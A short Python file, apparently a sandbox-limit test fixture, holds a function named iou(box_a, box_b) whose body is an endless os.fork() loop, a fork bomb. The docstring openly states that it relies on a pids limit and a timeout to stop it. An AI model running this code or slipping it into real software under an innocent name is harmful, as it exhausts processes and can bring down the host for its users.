"""Fork without end; the pids limit stops it and the call times out."""
import os


def iou(box_a, box_b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
